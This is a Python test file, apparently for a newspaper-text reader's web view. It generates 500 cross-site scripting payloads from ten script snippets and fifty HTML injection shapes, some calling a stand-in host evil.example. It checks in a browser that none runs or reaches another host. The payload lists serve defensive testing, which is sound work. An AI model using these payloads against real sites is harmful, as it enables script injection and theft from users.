"""Five hundred texts that want to run: in every field, view and export, none does.

Every payload asks for a dialog or for another host, which the browser would tell of.
"""

import itertools
import urllib.parse
from dataclasses import replace

import pytest

from dubao import __version__, read_text
from dubao.ledger import Ledger
from dubao.web import view
from tests.web.conftest import opened, served

RUN = (
    "alert(1)", "fetch('//evil.example/')", "top.location='//evil.example'",
    "alert`1`", "eval(atob('YWxlcnQoMSk='))", "import('//evil.example/x.js')",
    "document.write('<img src=//evil.example>')", "[1].find(alert)",
    "setTimeout('alert(1)')", "window['al'+'ert'](1)",
)  # fmt: skip
SHAPES = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script/src=data:,{}></script>",
    "</script><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>",
    "--><script>{}</script>", "<!--><script>{}</script>", "]]><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>", "<img src=x onerror={}>",
    "<img/src=x/onerror={}>", "<img src=x onerror\n=\n{}>", '"><img src=x onerror={}>',
    "'><img src=x onerror={}>", "`><img src=x onerror={}>", "<svg onload={}>",
    "<svg/onload={}//", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={}>#x"/>',
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    '<iframe srcdoc="<script>{}</script>">', '<iframe src="javascript:{}">',
    '<object data="javascript:{}">', '<embed src="javascript:{}">',
    '<a href="javascript:{}" autofocus onfocus={}>', "javascript:{}",
    "data:text/html,<script>{}</script>", "<body onload={}>", "<body onpageshow={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<details open ontoggle={}>", "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>", "<style>@import'//evil.example/{}';</style>",
    "<link rel=stylesheet href=//evil.example/{}>", "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action=javascript:{}><button>", '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    "\u2028{}", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "＜script＞{}＜/script＞", "{{{{constructor.constructor('{}')()}}}}",
)  # fmt: skip
PAYLOADS = [shape.replace("{}", run) for shape, run in itertools.product(SHAPES, RUN)]
TOGETHER = 10  # of one shape, on one page


def packs():
    return [PAYLOADS[n : n + TOGETHER] for n in range(0, len(PAYLOADS), TOGETHER)]


def reading_of(pack):
    """Return a page with payloads where text, captions, names and numbers stand."""
    lines = "\n".join(
        f"　　{payload}全县新建{payload}学校{n + 3}所{payload}，投资3万元。"
        for n, payload in enumerate(pack)
    )
    whole = " ".join(pack)
    text = (
        f"{pack[0]}\n\n本报讯 （记者 {pack[1]}）\n{lines}\n\n图为{pack[2]}　张平 摄\n"
    )
    found = read_text(text, name=f"{whole}.txt", date="2023-01-02", paper=whole)
    return replace(found, page=replace(found.page, number=whole))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "hostile.ledger"
    links = []
    with Ledger(path, write=True) as ledger:
        for pack in packs():
            reading = reading_of(pack)
            ledger.add(reading, reader=__version__)
            row = next(
                row for row in ledger.pages() if row.name == reading.page.source.name
            )
            first, second = reading.figures[:2]
            for figure, field in ((first, "measure"), (second, "holder")):
                start, end = figure.span
                ledger.correct(
                    f"{row.link}#c={start}-{end}",
                    act="edit", who=" ".join(pack[0].split()), field=field,
                    new=" ".join(" ".join(pack).split()),
                )  # fmt: skip
            links.append(row.link)
        ledger.index()
    return path, links


def test_there_are_five_hundred():
    assert len(set(PAYLOADS)) == 500


def test_nothing_of_them_runs_in_the_reader(chromium, hostile):
    path, links = hostile
    asked = []
    with (
        served(path, edit=True) as address,
        opened(chromium, locale="en-GB") as (page, faults),
    ):
        page.on("request", lambda request: asked.append(request.url))
        for link, pack in zip(links, packs(), strict=True):
            quoted = urllib.parse.quote(pack[0])
            page.goto(f"{address}{link}#c=3-9&q={quoted}")
            page.locator("tbody tr").first.click()
            page.keyboard.press("d")
            page.locator(".derivation li").first.wait_for()
            page.goto(f"{address}/?q={urllib.parse.quote(pack[0])}")
            page.locator("[role=status]:not(:empty)").wait_for()
        for place in ("/", "/figures", "/series?measure=*", "/add"):
            page.goto(address + place)
            page.wait_for_load_state("networkidle")
        page.goto(address)
        page.locator(".cards li").first.wait_for()
        page.goto(f"{address}/?q=-{urllib.parse.quote('没有这样的字')}")
        page.locator(".hits li").first.wait_for()
        while page.locator("button:text('More'):visible").count():
            before = page.locator(".hits li").count()
            page.locator("button:text('More'):visible").click()
            page.locator(".hits li").nth(before).wait_for()
        assert page.locator(".hits li").count() == len(links)
        for measure in (" ".join(packs()[0]), "*"):
            asking = urllib.parse.urlencode({"measure": measure})
            page.goto(f"{address}/api/series.svg?{asking}")
            assert page.locator("svg").count() == 1
        assert [url for url in asked if not url.startswith(address)] == []
        # a query that cannot be read is refused, and the browser notes it
        assert {fault for fault in faults if "400 (Bad Request)" not in fault} == set()


def test_nothing_of_them_runs_in_a_single_file(chromium, hostile, tmp_path):
    del hostile
    file = tmp_path / "page.html"
    with opened(chromium, locale="zh-CN") as (page, faults):
        asked = []
        page.on("request", lambda request: asked.append(request.url))
        for pack in packs():
            file.write_text(view(reading_of(pack)), encoding="utf-8")
            page.goto(file.as_uri())
            page.locator("tbody tr").first.click()
        assert set(asked) == {file.as_uri()}
        assert faults == []
